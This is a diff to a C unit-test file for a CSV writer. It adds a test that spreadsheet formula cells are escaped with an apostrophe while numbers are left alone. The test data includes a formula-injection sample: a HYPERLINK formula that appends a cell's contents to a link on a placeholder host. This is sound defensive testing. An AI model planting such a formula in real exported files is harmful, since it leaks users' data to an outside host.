@@ -446,12 +446,12 @@ static void writer_quotes_only_when_needed(void **state)
     char *buf;
     size_t n;
     FILE *f = open_memstream(&buf, &n);
-    const char *row[] = {"a", "b,c", "say \"hi\"", " lead", "trail\t", "l1\nl2", "", "张三", "\r"};
+    const char *row[] = {"a", "b,c", "say \"hi\"", " lead", "trail\t", "l1\nl2", "", "张三", "a\r"};
     assert_int_equal(csv_write_bom(f), 0);
     assert_int_equal(csv_write_row(f, row, 9), 0);
     fclose(f);
     assert_string_equal(buf, "\xEF\xBB\xBF"
-                             "a,\"b,c\",\"say \"\"hi\"\"\",\" lead\",\"trail\t\",\"l1\nl2\",,张三,\"\r\"\n");
+                             "a,\"b,c\",\"say \"\"hi\"\"\",\" lead\",\"trail\t\",\"l1\nl2\",,张三,\"a\r\"\n");
     /* And it reads back as written. */
     struct table *t;
     struct mz_err err;
@@ -463,6 +463,26 @@ static void writer_quotes_only_when_needed(void **state)
     table_close(t);
     free(buf);
     assert_false(csv_needs_quotes("plain 文本", strlen("plain 文本")));
+}
+
+/* Cells a spreadsheet would run as formulas are written as text; numbers,
+ * negative ones included, are left alone. */
+static void writer_neutralizes_formulas(void **state)
+{
+    char *buf;
+    size_t n;
+    FILE *f = open_memstream(&buf, &n);
+    const char *row[] = {"=HYPERLINK(\"http://x.example/\"&A1,\"点击\")", "+1", "-2+3", "@SUM(A1)",
+                         "\tx", "\r=1", "-12.50", "+7", "a=b", "500103-0001"};
+    assert_int_equal(csv_write_row(f, row, 10), 0);
+    fclose(f);
+    assert_string_equal(buf, "\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"点击\"\")\",+1,'-2+3,"
+                             "'@SUM(A1),\"'\tx\",\"'\r=1\",-12.50,+7,a=b,500103-0001\n");
+    free(buf);
+    assert_false(csv_is_formula(""));
+    assert_false(csv_is_formula("-"  "3"));
+    assert_true(csv_is_formula("-"));
+    assert_true(csv_is_formula("=1"));
 }
 
 static void column_names(void **state)
@@ -498,6 +518,7 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(plain_records),
+        cmocka_unit_test(writer_neutralizes_formulas),
         cmocka_unit_test(quoted_fields),
         cmocka_unit_test(embedded_newlines_keep_line_numbers),
         cmocka_unit_test(bom_is_skipped),
